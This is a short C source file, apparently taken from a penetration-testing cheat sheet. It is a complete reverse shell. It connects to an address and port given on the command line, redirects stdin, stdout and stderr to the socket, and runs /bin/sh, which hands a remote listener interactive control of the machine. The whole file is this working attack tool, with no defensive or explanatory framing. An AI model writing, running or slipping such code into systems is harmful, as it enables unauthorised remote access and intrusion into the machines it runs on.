/* SPDX-License-Identifier: MIT */
/*
 * The cheat sheet's C reverse shell (its "C" section), with the address
 * and port from the command line: connect, put the socket on stdin,
 * stdout and stderr, exec /bin/sh.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	int s = socket(AF_INET, SOCK_STREAM, 0);

	if (argc < 3 || s < 0)
		return 2;
	a.sin_port = htons((unsigned short)atoi(argv[2]));
	a.sin_addr.s_addr = inet_addr(argv[1]);
	if (connect(s, (struct sockaddr *)&a, sizeof(a)) < 0)
		return 1;
	dup2(s, 0);
	dup2(s, 1);
	dup2(s, 2);
	execve("/bin/sh", (char *[]){ "/bin/sh", NULL }, NULL);
	return 1;
}
